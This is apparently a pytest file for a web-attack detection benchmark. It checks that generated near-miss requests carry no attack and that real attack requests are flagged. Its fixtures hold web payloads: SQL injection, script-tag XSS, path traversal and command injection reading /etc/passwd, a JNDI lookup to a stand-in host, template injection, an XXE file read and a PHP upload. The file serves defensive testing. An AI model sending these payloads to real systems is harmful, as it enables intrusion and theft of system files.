"""The ORACLE's near-misses and its neutraliser: requests that look like an exploit, and none of which is an attack."""

import ast
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ruleforge.events.places import HttpView
from ruleforge.events.request import Request
from ruleforge.records.advisory import Advisory
from ruleforge.rules.classes import classes_of

ROOT = Path(__file__).resolve().parents[2]
FORM = (b"Content-Type", b"application/x-www-form-urlencoded")
JSON = (b"Content-Type", b"application/json")
HOST = (b"Host", b"shop.example")
OWN_READING = ("attack", "near", "ordinary", "retold", "slots")  # modules that share no code with the program's cases


@pytest.fixture(scope="module")
def oracle() -> Iterator[ModuleType]:
    sys.path.insert(0, str(ROOT / "bench"))
    try:
        import oracle.attack
        import oracle.near
        import oracle.retold
        import oracle.slots

        yield oracle
    finally:
        sys.path.remove(str(ROOT / "bench"))


def advisory(*cwes: str, tags: tuple[str, ...] = ()) -> Advisory:
    return Advisory(id="CVE-2099-0001", sources=("x.yaml",), tags=tags, cwes=cwes)


def get(target: bytes, *headers: tuple[bytes, bytes]) -> Request:
    return Request(method=b"GET", target=target, headers=(HOST, *headers))


def post(target: bytes, body: bytes, *headers: tuple[bytes, bytes]) -> Request:
    return Request(method=b"POST", target=target, headers=(HOST, *headers), body=body)


PARTS = (
    b'--pears\r\nContent-Disposition: form-data; name="crate"; filename="stall.php"\r\n\r\n<?php plums(); ?>\r\n'
    b'--pears\r\nContent-Disposition: form-data; name="size"\r\n\r\n2\r\n--pears--\r\n'
)
ATTACKS: dict[str, tuple[Request, Advisory]] = {
    "search": (get(b"/fruit/stall.php?action=find&search=1%27+union+select+1,2--+-"), advisory("CWE-89")),
    "script": (get(b"/fruit/press-list.php?page=a&q=%3Cscript%3Ealert(1)%3C/script%3E"), advisory("CWE-79")),
    "bare names": (get(b"/fruit/press.php?fresh&crate=%22%3E%3Cscript%3E"), advisory("CWE-79")),
    "path": (get(b"/orchard/static/../../../../etc/passwd"), advisory("CWE-22")),
    "form": (post(b"/fruit/keep.cgi", b"host=plum.example%3Bcat+/etc/passwd&n=4", FORM), advisory("CWE-78")),
    "header": (get(b"/fruit/list", (b"X-Api-Version", b"${jndi:ldap://pear.example/a}")), advisory("CWE-917")),
    "host": (Request(method=b"GET", target=b"/a", headers=((b"Host", b"plum${pear}"),)), advisory("CWE-94")),
    "json": (
        post(b"/api/crates", b'{"kind": "a", "crate": {"name": "{{7*7}}", "label": "fresh one"}}', JSON),
        advisory("CWE-1336"),
    ),
    "xml": (
        post(
            b"/api/soap",
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a><c>&b;</c><d>x</d></a>',
            (b"Content-Type", b"text/xml"),
        ),
        advisory("CWE-611"),
    ),
    "upload": (
        post(b"/fruit/up.php", PARTS, (b"Content-Type", b"multipart/form-data; boundary=pears")),
        advisory("CWE-434"),
    ),
    "redirect": (get(b"/go?next=https://wolf.example/"), advisory("CWE-601")),
}
# Requests whose ordinary twin could be an attack as well.
THE_CALL_ITSELF: dict[str, tuple[Request, Advisory]] = {
    "no authentication": (get(b"/admin/crates?q=%3Cscript%3E"), advisory("CWE-306", "CWE-79")),
    "access": (get(b"/admin/export.php?all=1"), advisory(tags=("auth-bypass", "sqli"))),
    "kind not known": (get(b"/fruit/list?q=%3Cscript%3E"), advisory()),
    "no sign": (get(b"/fruit/list?id=7"), advisory("CWE-89")),
    "an interpreter": (get(b"/fruit/console?cmd=%3Bid"), advisory("CWE-78")),
    "a command as it stands": (get(b"/fruit/console?line=cat+/etc/passwd"), advisory("CWE-78")),
    "raw body": (post(b"/fruit/read", b"\xac\xed\x00\x05sr plums"), advisory("CWE-94")),
    "writes a file": (
        Request(method=b"PUT", target=b"/a.jsp", headers=(HOST,), body=b"<% %>"),
        advisory("CWE-434"),
    ),
}


def case(oracle: ModuleType, source: tuple[Request, Advisory]) -> Any:
    return oracle.case.Case(*source)


def near_misses(oracle: ModuleType, source: tuple[Request, Advisory]) -> list[tuple[str, Request]]:
    ordinary = oracle.ordinary.Ordinary({"search": (b"plums",), "q": (b"pears and plums",)})
    return list(oracle.near.near_misses(case(oracle, source), ordinary))


def neutral(oracle: ModuleType, source: tuple[Request, Advisory]) -> list[Request]:
    return list(oracle.near.neutralise(case(oracle, source), oracle.ordinary.Ordinary()))


def all_values(request: Request) -> list[bytes]:
    view = HttpView(request)
    places = ("args", "json", "multipart", "xml", "cookies")
    return [each.value for place in places for each in view.read(place).elements]


def test_every_maker_is_tried_and_documented(oracle: ModuleType) -> None:
    names = set(oracle.near.NEAR)
    assert len(names) >= 10
    assert {name for source in ATTACKS.values() for name, _ in near_misses(oracle, source)} == names
    page = (ROOT / "bench" / "oracle" / "README.md").read_text("utf-8")
    rows = dict(re.findall(r"^\| `near: ([a-z0-9_]+)` \| (.+) \|$", page, re.MULTILINE))
    assert rows == {name: entry.valid for name, entry in oracle.near.NEAR.items()}


@pytest.mark.parametrize("name", ATTACKS)
def test_near_misses_differ_and_carry_no_attack(oracle: ModuleType, name: str) -> None:
    made = near_misses(oracle, ATTACKS[name])
    assert made
    for kind, request in [*made, *(("neutralised", each) for each in neutral(oracle, ATTACKS[name]))]:
        assert request != ATTACKS[name][0]
        assert oracle.attack.is_harmless(oracle.case.Case(request, ATTACKS[name][1])), kind
        left = {found for value in all_values(request) for found in classes_of(value)}
        assert not left & {"sql_injection", "xss", "traversal", "command_injection", "xxe", "jndi"}, (kind, request)


@pytest.mark.parametrize("name", ATTACKS)
def test_no_exploit_is_called_harmless(oracle: ModuleType, name: str) -> None:
    assert not oracle.attack.is_harmless(case(oracle, ATTACKS[name]))


@pytest.mark.parametrize("name", sorted(set(ATTACKS) - {"path", "upload"}))
def test_the_neutraliser_changes_values_alone(oracle: ModuleType, name: str) -> None:
    original = ATTACKS[name][0]
    made = neutral(oracle, ATTACKS[name])
    assert made
    for request in made:
        assert request.method == original.method
        assert request.target.partition(b"?")[0] == original.target.partition(b"?")[0]
        names = [
            [each.name for each in HttpView(r).read(p).elements] for r in (original, request) for p in ("args", "json")
        ]
        assert names[:2] == names[2:]


@pytest.mark.parametrize("name", THE_CALL_ITSELF)
def test_where_the_call_is_the_attack_nothing_is_made(oracle: ModuleType, name: str) -> None:
    assert oracle.attack.Attack(case(oracle, THE_CALL_ITSELF[name])).why_not
    assert near_misses(oracle, THE_CALL_ITSELF[name]) == []
    assert neutral(oracle, THE_CALL_ITSELF[name]) == []


@pytest.mark.parametrize(
    "request_sent",
    [
        get(b"/fruit?%3Cscript%3E=1"),
        get(b"/fruit?a=1", (b"Cookie", b"a=<script>")),
        get(b"/fruit/%2e%2e/keys"),
        Request(method=b"GET", target=b"/a", headers=((b"Host", b"a b;c"),)),
        post(b"/fruit", b'{"__proto__": {"a": "b"}}', JSON),
        post(b"/fruit", PARTS, (b"Content-Type", b"multipart/form-data; boundary=pears")),
    ],
)
def test_an_attack_in_a_name_a_host_or_a_file_name_is_seen(oracle: ModuleType, request_sent: Request) -> None:
    assert not oracle.attack.is_harmless(oracle.case.Case(request_sent, advisory("CWE-79")))


def test_what_was_recorded_for_a_name_is_used_where_it_is_of_that_kind(oracle: ModuleType) -> None:
    recorded = [get(b"/list?search=red+plums&id=abc&id=12"), get(b"/list?search=%3Cscript%3E")]
    known = oracle.ordinary.learn(recorded)
    assert known == {"search": (b"red plums",), "id": (b"12", b"abc")}
    ordinary = oracle.ordinary.Ordinary(known)
    number = oracle.slots.Slot("query", "id", b"1' or 1=1")
    assert ordinary.recorded_values(number) == (b"12",)


def test_the_own_reading_shares_no_code_with_the_program_it_measures() -> None:
    for name in OWN_READING:
        tree = ast.parse((ROOT / "bench" / "oracle" / f"{name}.py").read_bytes())
        modules = {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        modules |= {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        own = {module for module in modules if module.startswith("ruleforge")}
        events = {f"ruleforge.events.{name}" for name in ("decoding", "places", "request")}
        assert own <= {*events, "ruleforge.rules.classes"}


texts = st.text(alphabet="ab <'\"&=;%/.{", min_size=1, max_size=12)


@given(st.lists(st.tuples(st.sampled_from(["a", "b", "crate"]), texts), min_size=1, max_size=4))
def test_a_request_written_again_with_no_change_is_the_same(pairs: list[tuple[str, str]]) -> None:
    sys.path.insert(0, str(ROOT / "bench"))
    try:
        from oracle.case import Case
        from oracle.slots import rewrite, slots

        original = post(b"/a?" + urlencode(pairs).encode(), urlencode(pairs).encode(), FORM)
        assert rewrite(Case(original, advisory()), lambda _: None) == original
        changed = rewrite(Case(original, advisory()), lambda slot: b"new" if slot.place in ("query", "form") else None)
        assert {slot.value for slot in slots(Case(changed, advisory())) if slot.place in ("query", "form")} == {b"new"}
        read = HttpView(changed).read("args").elements
        assert [(each.name, each.value) for each in read] == [(name.encode(), b"new") for name, _ in pairs] * 2
    finally:
        sys.path.remove(str(ROOT / "bench"))
